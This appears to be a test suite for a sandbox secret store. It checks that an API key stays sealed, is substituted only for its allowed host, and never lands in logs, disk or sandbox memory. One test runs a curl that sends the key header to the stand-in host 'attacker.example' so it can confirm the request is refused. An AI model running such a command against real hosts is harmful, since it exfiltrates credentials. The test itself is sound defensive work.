import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import {
  listMachines,
  readMachines,
  type Scenario,
  searchDirectory,
  searchDisk,
  searchProcessMemory,
  startSharedScenario,
  untilAudited,
} from "@opencomputer/harness";
import type { Sandbox } from "@opencomputer/sdk";

const key = "sk-ant-canary-c5d0e3f19b2774a8d1c60e93";
const keyHost = "api.anthropic.com";
const otherHost = "api.github.com";
const forbiddenHost = "attacker.example";

describe("a sandbox that uses a secret it can never see", () => {
  let scenario: Scenario;
  let sandbox: Sandbox;
  let token: string;

  before(async () => {
    scenario = await startSharedScenario({
      hosts: [keyHost, otherHost, forbiddenHost],
      handler: (request, response, body) => {
        // An echo service: what it received comes back in a header and in the body.
        response.setHeader("x-received-key", request.headers["x-api-key"] ?? "");
        response.end(`key ${request.headers["x-api-key"]} body ${body.toString()}\n`);
      },
    });
    const store = await scenario.createStore({
      egressAllowlist: [keyHost, otherHost],
      secrets: { ANTHROPIC_API_KEY: { value: key, allowedHosts: [keyHost] } },
    });
    sandbox = await scenario.createSandbox({ secretStore: store.name });
    token = (await sandbox.exec.run("printenv ANTHROPIC_API_KEY")).stdout.trim();
  });
  after(async () => assert.deepEqual(await scenario.end(), []));

  test("holds a sealed token in the variable", () => {
    assert.match(token, /^osb_sealed_[0-9a-f]{32}$/);
  });

  test("sends the real key in header and body to the host it is for", async () => {
    const result = await sandbox.exec.run(
      `curl -sS -i https://${keyHost}/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -d "{\\"k\\":\\"$ANTHROPIC_API_KEY\\"}"`,
    );
    assert.equal(result.exitCode, 0, result.stderr);
    const request = scenario.internet.requestsTo(keyHost).at(-1);
    assert.equal(request?.headers["x-api-key"], key);
    assert.equal(request?.body, `{"k":"${key}"}`);
  });

  test("sees its token where a server sends the key back", async () => {
    const result = await sandbox.exec.run(
      `curl -sS -i https://${keyHost}/echo -H "x-api-key: $ANTHROPIC_API_KEY"`,
    );
    assert.match(result.stdout, new RegExp(`x-received-key: ${token}`));
    assert.match(result.stdout, new RegExp(`key ${token} body`));
    assert.ok(!result.stdout.includes(key));
  });

  test("sends the token to a host that is allowed, but not for this secret", async () => {
    await sandbox.exec.run(`curl -sS https://${otherHost}/ -H "x-api-key: $ANTHROPIC_API_KEY"`);
    assert.equal(scenario.internet.requestsTo(otherHost).at(-1)?.headers["x-api-key"], token);
  });

  test("is refused a host outside the allowlist, with the reason", async () => {
    const result = await sandbox.exec.run(
      `curl -sS -w '%{http_code}' https://${forbiddenHost}/ -H "x-api-key: $ANTHROPIC_API_KEY"`,
    );
    assert.match(result.stdout, /attacker\.example.*403$/s);
    assert.match(result.stdout, /not.*allow/);
    assert.deepEqual(scenario.internet.requestsTo(forbiddenHost), []);
  });

  test("the allowed-hosts route returns what the proxy enforces", async () => {
    const { egressAllowlist, perSecretAllowedHosts } = await sandbox.allowedHosts();
    assert.deepEqual(egressAllowlist, [keyHost, otherHost]);
    assert.deepEqual(perSecretAllowedHosts, { ANTHROPIC_API_KEY: [keyHost] });
  });

  test("every request is one audit line with names and no values", async () => {
    const { dataDirectory } = scenario.installation;
    const lines = await untilAudited(dataDirectory, sandbox.sandboxId, (audited) =>
      audited.some((line) => line.host === forbiddenHost),
    );
    const toHost = (host: string) => lines.filter((line) => line.host === host);
    assert.deepEqual(
      toHost(keyHost).map((line) => line.substituted),
      [["ANTHROPIC_API_KEY"], ["ANTHROPIC_API_KEY"]],
    );
    assert.deepEqual(toHost(keyHost).at(-1)?.redacted, ["ANTHROPIC_API_KEY"]);
    assert.deepEqual(toHost(otherHost)[0]?.withheld, [
      { name: "ANTHROPIC_API_KEY", place: "header x-api-key" },
    ]);
    assert.equal(toHost(forbiddenHost)[0]?.decision, "refused");
    assert.ok(!JSON.stringify(lines).includes(key));
  });

  test("the key is in no machine, no file and no log, and is in the proxy", async () => {
    const machines = await listMachines(scenario.installation);
    assert.ok(machines.length > 0);
    let tokenSeen = false;
    for (const pid of machines) {
      const { leaks } = await searchProcessMemory(pid, [key, token]);
      assert.deepEqual(
        leaks.filter((leak) => leak.valueIndex === 0),
        [],
      );
      tokenSeen ||= leaks.length > 0;
    }
    assert.ok(tokenSeen, "the search finds the token in the machine that holds it");
    const disk = (await readMachines(scenario.installation.dataDirectory)).get(sandbox.sandboxId);
    assert.deepEqual((await searchDisk(disk?.diskPath ?? "", [key])).leaks, []);
    assert.deepEqual((await searchDirectory(scenario.installation.dataDirectory, [key])).leaks, []);
    const [proxy = 0] = await scenario.installation.pidsOf("egress-proxy");
    assert.ok((await searchProcessMemory(proxy, [key])).leaks.length > 0);
  });
});
